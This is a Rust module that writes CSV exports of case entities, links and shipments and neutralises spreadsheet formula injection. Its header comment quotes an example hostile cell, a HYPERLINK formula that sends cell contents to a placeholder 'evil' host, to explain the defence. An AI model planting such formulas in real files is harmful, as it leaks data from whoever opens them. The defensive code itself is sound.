//! CSV tables of a case's entities, links and shipments (RFC 4180: comma separated, CRLF line
//! ends, a header row; a field holding a comma, quote, CR or LF is quoted with its quotes
//! doubled).
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula, so a hostile name
//! such as `=HYPERLINK("http://evil/?"&A1)` in a case from an untrusted source could run or leak
//! data when the export is opened (CSV formula injection). Text cells starting with one of
//! those characters, or with a tab or carriage return that some spreadsheets skip before
//! looking, get a leading `'`, which spreadsheets show as plain text. Numbers we write
//! ourselves (positions, quantities) are left alone, so a negative coordinate stays a number.

use super::{LIST_SEPARATOR, flags_text, format_number, goods_summary, identifiers_text};
use crate::model::{Case, EntityId};

/// One row under construction.
#[derive(Default)]
struct Row(Vec<String>);

impl Row {
    /// A text cell, guarded against formula injection.
    fn text(mut self, value: &str) -> Self {
        self.0.push(neutralise_formula(value));
        self
    }

    /// A number we formatted ourselves: written as is.
    fn number(mut self, value: String) -> Self {
        self.0.push(value);
        self
    }
}

/// Prefixes `'` to text a spreadsheet would otherwise take for a formula.
pub fn neutralise_formula(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// Quotes one field as RFC 4180 asks.
pub fn quote_field(value: &str) -> String {
    if value.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_owned()
    }
}

fn table(header: &[&str], rows: impl IntoIterator<Item = Row>) -> String {
    let mut out = String::new();
    let mut push = |fields: &mut dyn Iterator<Item = String>| {
        let line: Vec<String> = fields.map(|f| quote_field(&f)).collect();
        out.push_str(&line.join(","));
        out.push_str("\r\n");
    };
    push(&mut header.iter().map(|h| (*h).to_owned()));
    for row in rows {
        push(&mut row.0.into_iter());
    }
    out
}

fn opt_text<T: ToString>(value: Option<&T>) -> String {
    value.map(ToString::to_string).unwrap_or_default()
}

fn name_of(case: &Case, id: Option<&EntityId>) -> String {
    id.and_then(|id| case.entities.get(id))
        .map(|e| e.name.clone())
        .unwrap_or_default()
}

/// Header of [`entities`].
pub const ENTITY_HEADER: [&str; 16] = [
    "id",
    "kind",
    "name",
    "aliases",
    "country",
    "identifiers",
    "eccn",
    "hs_code",
    "flags",
    "tags",
    "start",
    "end",
    "street",
    "city",
    "x",
    "y",
];

/// One row per entity, in id order. List cells are joined with `"; "`.
pub fn entities(case: &Case) -> String {
    let rows = case.entities.values().map(|e| {
        let position = case.positions.get(&e.id);
        Row::default()
            .text(e.id.as_str())
            .text(e.kind.label())
            .text(&e.name)
            .text(&e.aliases.join(LIST_SEPARATOR))
            .text(&opt_text(e.country.as_ref()))
            .text(&identifiers_text(e))
            .text(&e.product.eccn)
            .text(&e.product.hs_code)
            .text(&flags_text(e))
            .text(&e.tags.join(LIST_SEPARATOR))
            .text(&opt_text(e.start.as_ref()))
            .text(&opt_text(e.end.as_ref()))
            .text(&e.address.street)
            .text(&e.address.city)
            .number(position.map(|p| format_number(p.x)).unwrap_or_default())
            .number(position.map(|p| format_number(p.y)).unwrap_or_default())
    });
    table(&ENTITY_HEADER, rows)
}

/// Header of [`links`].
pub const LINK_HEADER: [&str; 13] = [
    "id",
    "kind",
    "label",
    "from",
    "from_name",
    "to",
    "to_name",
    "directed",
    "status",
    "confidence",
    "start",
    "end",
    "description",
];

/// One row per link, in id order, with the names of both ends.
pub fn links(case: &Case) -> String {
    let rows = case.links.values().map(|l| {
        Row::default()
            .text(l.id.as_str())
            .text(l.kind.tag().label())
            .text(&l.kind.summary())
            .text(l.from.as_str())
            .text(&name_of(case, Some(&l.from)))
            .text(l.to.as_str())
            .text(&name_of(case, Some(&l.to)))
            .text(if l.kind.is_directed() { "yes" } else { "no" })
            .text(l.status.label())
            .text(l.confidence.label())
            .text(&opt_text(l.start.as_ref()))
            .text(&opt_text(l.end.as_ref()))
            .text(&l.description)
    });
    table(&LINK_HEADER, rows)
}

/// Header of [`shipments`].
pub const SHIPMENT_HEADER: [&str; 18] = [
    "id",
    "reference",
    "status",
    "claim",
    "date",
    "shipper",
    "shipper_name",
    "forwarders",
    "consignee",
    "consignee_name",
    "notify_party",
    "declared_end_user",
    "suspected_end_user",
    "suspected_end_user_name",
    "route",
    "goods",
    "total_quantity",
    "notes",
];

/// One row per shipment, in id order, with its route and goods summarised.
pub fn shipments(case: &Case) -> String {
    let rows = case.shipments.values().map(|s| {
        let forwarders: Vec<String> = s
            .forwarders
            .iter()
            .map(|f| name_of(case, Some(f)))
            .collect();
        let quantity = s.goods.iter().any(|g| g.quantity.is_some());
        Row::default()
            .text(s.id.as_str())
            .text(&s.reference)
            .text(s.status.label())
            .text(s.claim.label())
            .text(&opt_text(s.first_date()))
            .text(&opt_text(s.shipper.as_ref()))
            .text(&name_of(case, s.shipper.as_ref()))
            .text(&forwarders.join(LIST_SEPARATOR))
            .text(&opt_text(s.consignee.as_ref()))
            .text(&name_of(case, s.consignee.as_ref()))
            .text(&opt_text(s.notify_party.as_ref()))
            .text(&opt_text(s.declared_end_user.as_ref()))
            .text(&opt_text(s.suspected_end_user.as_ref()))
            .text(&name_of(case, s.suspected_end_user.as_ref()))
            .text(&s.route_summary())
            .text(&goods_summary(case, s))
            .number(if quantity {
                s.total_quantity().to_string()
            } else {
                String::new()
            })
            .text(&s.notes)
    });
    table(&SHIPMENT_HEADER, rows)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_and_formula_guard() {
        assert_eq!(quote_field("plain"), "plain");
        assert_eq!(quote_field("a,b"), "\"a,b\"");
        assert_eq!(quote_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(quote_field("l1\nl2"), "\"l1\nl2\"");
        assert_eq!(neutralise_formula("=1+1"), "'=1+1");
        assert_eq!(neutralise_formula("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise_formula("-2"), "'-2");
        assert_eq!(neutralise_formula("+7"), "'+7");
        assert_eq!(neutralise_formula("Acme = good"), "Acme = good");
    }
}
